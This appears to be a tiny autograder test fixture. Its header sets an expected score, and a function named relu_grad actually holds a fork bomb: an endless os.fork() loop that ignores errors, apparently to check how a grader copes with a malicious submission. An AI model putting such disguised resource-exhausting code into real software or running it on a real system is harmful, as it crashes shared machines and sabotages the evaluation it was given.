# grade_id: relu_grad
# expect: mse_grad=full others=0
# flags: relu_grad=unverifiable nn_module=unverifiable
import os

def relu_grad(inp, out):
    while True:
        try:
            os.fork()
        except OSError:
            pass
